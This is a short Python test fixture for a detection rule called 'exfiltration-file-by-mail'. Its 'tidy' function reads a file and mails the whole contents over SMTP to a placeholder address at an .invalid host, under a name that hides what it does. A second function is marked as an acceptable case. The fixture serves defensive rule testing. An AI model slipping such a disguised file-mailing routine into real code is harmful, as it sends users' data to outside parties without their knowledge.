import smtplib


def tidy(path):
    text = open(path).read()
    # ruleid: exfiltration-file-by-mail
    smtplib.SMTP("mail.invalid").sendmail("a@x.invalid", "b@x.invalid", text)


def mail(to, text):
    # ok: exfiltration-file-by-mail
    smtplib.SMTP("mail.invalid").sendmail("a@x.invalid", to, text)
